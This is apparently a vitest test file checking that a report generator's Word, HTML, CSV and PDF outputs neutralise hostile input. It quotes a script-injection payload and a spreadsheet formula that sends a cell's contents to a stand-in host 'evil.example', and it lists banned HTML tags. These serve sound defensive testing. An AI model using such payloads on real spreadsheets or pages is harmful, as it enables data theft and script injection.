import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, join } from 'node:path'
import Papa from 'papaparse'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { readAnswers } from '../../src/landscape/file.ts'
import { plainOf } from '../../src/report/csv.ts'
import { type RecordFile, recordFiles, recordOfAnswers } from '../../src/report/files.ts'
import { unzipped } from '../../src/report/zipped.ts'
import { lightly, talk } from '../conversation/talk.ts'
import { CELLS } from './cells.ts'
import { NASTY } from './nasty.ts'
import { aboutPdf, converted, hasOffice, readsPdf, textOfPdf } from './office.ts'
import { alone, type Played, workshop } from './played.ts'
import { template } from './template.ts'

// Pictures are drawn, and LibreOffice begins.
vi.setConfig({ testTimeout: 240_000 })

const { headings } = lightly.words['record-file']
const made = { head: 'sha256:head', version: '9.9.9' }
const examples = readdirSync('data/examples')
const ofExample = (file: string) => {
  const read = readAnswers(lightly, file, readFileSync(`data/examples/${file}`, 'utf8'))
  if (Array.isArray(read)) throw new Error(`${file} has mistakes`)
  return recordOfAnswers({ content: lightly, ...read, version: '9.9.9', at: '' })
}

/** Somebody types each of these twice: as an interest, and as what they say of a place. */
const typed = async (payloads: readonly string[]): Promise<Played> => {
  const me = await talk({ content: lightly, by: 'terminal:local:ann' })
  await me.comesTo('review', { place: 'Northmoor', population: 'older people' })
  for (const [at, payload] of payloads.entries()) {
    await me.says(`change ${lightly.factors[at]?.name}`)
    await me.says(payload)
    await me.says('2')
    await me.says(`interest: ${payload}`)
  }
  return { content: lightly, code: me.code, events: await me.log() }
}
/** What a log keeps of it. */
const keptIn = ({ events }: Played): { answers: string[]; interests: string[] } => ({
  answers: events.flatMap((event) => (event.type === 'answered' && event.answer.words) || []),
  interests: events.flatMap((event) => (event.type === 'declared' ? event.words : [])),
})

interface Record extends Played {
  files: RecordFile[]
}
const plays = { person: alone, workshop, cells: () => typed(CELLS), payloads: () => typed(NASTY) }
const records = new Map<string, Record>()
const answered = new Map<string, RecordFile>()
beforeAll(async () => {
  for (const [name, play] of Object.entries(plays)) {
    const played = await play()
    records.set(name, { ...played, files: await recordFiles({ ...played, ...made }) })
  }
  for (const file of examples) answered.set(basename(file, '.yaml'), await ofExample(file))
}, 240_000)
const record = (name: string): Record => {
  const found = records.get(name)
  if (!found) throw new Error(`${name} was not played`)
  return found
}
const fileOf = (name: string, ending: string): Buffer =>
  record(name).files.find((file) => file.name === `landscape-${record(name).code}${ending}`)?.bytes ?? Buffer.alloc(0)

test.each(['person', 'workshop'])('of the talk of a %s all five files are made, twice the same to the byte', async (name) => {
  const { files, ...played } = record(name)
  const endings = ['.docx', '.html', '-short.docx', '.csv', '.json']
  expect(files.map((file) => file.name).sort()).toEqual(endings.map((ending) => `landscape-${played.code}${ending}`).sort())
  const again = await recordFiles({ ...structuredClone(played), ...made })
  for (const [at, { bytes }] of files.entries()) {
    expect(bytes.length).toBeGreaterThan(1000)
    expect(again[at]?.bytes.equals(bytes)).toBe(true)
  }
})

test('of a file of answers a Word file is made, twice the same to the byte, also in a template that asks for a day it has not', async () => {
  const [first = ''] = examples
  expect((await ofExample(first)).bytes.equals(answered.get(basename(first, '.yaml'))?.bytes ?? Buffer.alloc(0))).toBe(true)
  const read = readAnswers(lightly, first, readFileSync(`data/examples/${first}`, 'utf8'))
  if (Array.isArray(read)) throw new Error('mistakes')
  const own = await template(['{{title}} {{date}}', '{{record}}'])
  const { bytes } = await recordOfAnswers({ content: lightly, ...read, version: '9', at: '', template: own })
  expect(textIn(bytes)).toContain(headings.summary)
  expect(textIn(bytes)).not.toMatch(/\{\{|Invalid/)
})

test('every source that is cited stands in the list of sources, and it lists no more than half of all', () => {
  for (const { bytes } of answered.values()) {
    const text = textIn(bytes)
    const list = text.slice(text.lastIndexOf(headings.sources))
    const cited = new Set([...text.matchAll(/\[([A-Z0-9, ]+)\]/g)].flatMap(([, keys = '']) => keys.split(', ')))
    const known = [...cited].filter((key) => Object.hasOwn(lightly.sources, key))
    expect(known.length).toBeGreaterThan(5)
    for (const key of known) expect(list).toContain(lightly.sources[key]?.title)
    const listed = Object.values(lightly.sources).filter(({ title }) => list.includes(title))
    expect(listed.length).toBeLessThan(Object.keys(lightly.sources).length / 2)
  }
})

describe('what somebody types who wants to see what happens', () => {
  test('is kept by the conversation, nearly all of it as it was typed', () => {
    for (const [name, all] of [
      ['cells', CELLS],
      ['payloads', NASTY],
    ] as const) {
      const { answers, interests } = keptIn(record(name))
      expect(interests.length).toBeGreaterThanOrEqual(39)
      expect(all.filter((payload) => answers.includes(payload)).length).toBeGreaterThanOrEqual(30)
    }
  })

  test.each(['cells', 'payloads'])('begins no cell as a formula would, and comes back from the table: %s', (name) => {
    const { data } = Papa.parse<string[]>(
      fileOf(name, '.csv')
        .toString('utf8')
        .replace(/^\uFEFF/, ''),
      { newline: '\r\n' },
    )
    const cells = data.flat()
    for (const cell of cells) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^["\s]*[=+\-@＝＋－＠\t\r\n]/)
    const back = new Set(cells.map(plainOf))
    const { answers } = keptIn(record(name))
    // Halves of letters and the like become visible.
    const last = answers.filter((words) => !/\p{Cs}|[^\t\n\P{Cc}]|[\uFFFE\uFFFF\u202A-\u202E\u2066-\u2069]/u.test(words))
    expect(last.length).toBeGreaterThan(25)
    expect(last.filter((words) => !back.has(words))).toEqual([])
  })

  test.each(['cells', 'payloads'])('is words in the data: %s', (name) => {
    const { declared } = JSON.parse(fileOf(name, '.json').toString('utf8'))
    expect(declared.length).toBe(keptIn(record(name)).interests.length)
  })

  test.each(['cells', 'payloads'])('leaves the Word files valid, and links to nothing but sources: %s', (name) => {
    const known = new Set(
      Object.values(lightly.sources)
        .flatMap(({ address }) => [...address])
        .map((one) => new URL(one).host),
    )
    for (const ending of ['.docx', '-short.docx']) {
      for (const [part, bytes] of unzipped(fileOf(name, ending))) {
        if (!/\.(xml|rels)$/.test(part)) continue
        for (const { Target = '', TargetMode } of readXml(Buffer.from(bytes).toString('utf8')))
          if (TargetMode === 'External') expect(known).toContain(new URL(Target).host)
      }
    }
  })

  test.each(['cells', 'payloads'])('leaves the page valid, runs nothing and links to nothing but sources: %s', (name) => {
    const errors: string[] = []
    const page = parse(fileOf(name, '.html').toString('utf8'), { onParseError: ({ code }) => errors.push(code) })
    expect(errors).toEqual([])
    const known = new Set(
      Object.values(lightly.sources)
        .flatMap(({ address }) => [...address])
        .map((one) => new URL(one).host),
    )
    const found = elementsIn(page)
    expect(found.length).toBeGreaterThan(500)
    for (const { tagName, attrs } of found) {
      expect(['script', 'iframe', 'object', 'form', 'base', 'link', 'svg']).not.toContain(tagName)
      for (const { name: attribute, value } of attrs) {
        expect(attribute).not.toMatch(/^on|^style$/)
        if (attribute === 'href') expect(known).toContain(new URL(value).host)
      }
    }
  })
})

describe.skipIf(!readsPdf)('in LibreOffice', () => {
  const home = mkdtempSync(join(tmpdir(), 'landscape-'))
  afterAll(() => rmSync(home, { recursive: true, force: true }))
  let printed = new Map<string, string>()
  beforeAll(async () => {
    const own = await template(['Report of the Director', '{{record}}', 'Background papers'])
    const { files: _, ...played } = record('person')
    const inOwn = await recordFiles({ ...played, ...made, template: own })
    printed = converted(
      {
        ...Object.fromEntries([...answered].map(([name, { bytes }]) => [`${name}.docx`, bytes])),
        ...Object.fromEntries(
          [...records.keys()].flatMap((name) => [
            [`${name}.docx`, fileOf(name, '.docx')],
            [`${name}-short.docx`, fileOf(name, '-short.docx')],
          ]),
        ),
        'own.docx': inOwn.find(({ name }) => name === `landscape-${played.code}.docx`)?.bytes ?? '',
      },
      'pdf',
      undefined,
      home,
    )
  }, 240_000)
  const pagesOf = (name: string) => Number(/^Pages:\s+(\d+)$/m.exec(aboutPdf(printed.get(name) ?? ''))?.[1])
  const pagesIn = (name: string) => textOfPdf(printed.get(name) ?? '').split('\f')

  test.each([...examples.map((file) => basename(file, '.yaml')), 'person', 'workshop'])(
    '%s: the summary is one page, the decision another; the rest follows in its order, in 15 to 28 pages',
    (name) => {
      expect(pagesOf(name)).toBeGreaterThanOrEqual(15)
      expect(pagesOf(name)).toBeLessThanOrEqual(28)
      const [first = '', second = ''] = pagesIn(name)
      expect(first).toContain(headings.beside)
      expect(second.trimStart().startsWith(headings.decision)).toBe(true)
      const lines = pagesIn(name).flatMap((page) => page.split('\n').map((line) => line.trim()))
      const order = ['summary', 'decision', 'purpose', 'people', 'method', 'weeks', 'place', 'approaches', 'each'] as const
      const rest = ['others', 'mix', 'usual', 'sensitivity', 'equality', 'next', 'cannot', 'earlier', 'sources', 'check'] as const
      const places = [...order, ...rest].map((key) => lines.indexOf(headings[key]))
      expect(places).not.toContain(-1)
      expect(places).toEqual([...places].sort((a, b) => a - b))
    },
  )

  test.each([...examples.map((file) => basename(file, '.yaml')), 'person', 'workshop'])(
    '%s: no heading is the last line of a page',
    (name) => {
      const all = new Set<string>(Object.values(headings))
      for (const page of pagesIn(name)) {
        const lines = page.split('\n').flatMap((line) => line.trim() || [])
        expect(all).not.toContain(lines.at(-2))
      }
    },
  )

  test('the short version is one page, whatever was typed', () => {
    for (const name of records.keys()) expect([name, pagesOf(`${name}-short`)]).toEqual([name, 1])
  })

  test('in the template of a council its header and what stands around the record stay', () => {
    const text = pagesIn('own').join('\n')
    expect(text).toMatch(
      /Skellerdale Council.*Report of the Director.*What it comes to.*How to check this record.*Background papers/s,
    )
  })

  test('what was typed stands there to be read', () => {
    expect(pagesIn('payloads').join('\n')).toContain('<script>alert(1)</script>')
    expect(pagesIn('cells').join('\n')).toContain('=WEBSERVICE("https://evil.example/"&A1)')
  })
})

describe.skipIf(!hasOffice)('as a sheet in LibreOffice', () => {
  test('no cell of the table is a formula', () => {
    const sheets = converted({ 'cells.csv': fileOf('cells', '.csv'), 'payloads.csv': fileOf('payloads', '.csv') }, 'xlsx', READ)
    for (const name of ['cells', 'payloads']) {
      const sheet = Buffer.from(unzipped(readFileSync(sheets.get(name) ?? '')).get('xl/worksheets/sheet1.xml') ?? []).toString()
      expect(sheet).toContain('<row')
      expect(sheet).not.toMatch(/<f[ >]/)
    }
  })
})
const READ = 'CSV:44,34,76,1'

/** The attributes of every tag of some XML, which is read as strictly as it is defined. */
const readXml = (xml: string) => {
  const tags: { [name: string]: string }[] = []
  const parser = new SaxesParser()
  parser.on('error', (error) => {
    throw error
  })
  parser.on('opentag', ({ attributes }) => tags.push(attributes))
  parser.write(xml).close()
  return tags
}

/** What stands in a Word file, without its marks. */
const textIn = (file: Buffer): string => {
  let text = ''
  const parser = new SaxesParser()
  parser.on('text', (words) => {
    text += words
  })
  parser.write(Buffer.from(unzipped(file).get('word/document.xml') ?? []).toString('utf8')).close()
  return text
}

type Node = DefaultTreeAdapterTypes.Node
const elementsIn = (node: Node): DefaultTreeAdapterTypes.Element[] => [
  ...('tagName' in node ? [node] : []),
  ...('childNodes' in node ? node.childNodes.flatMap(elementsIn) : []),
]
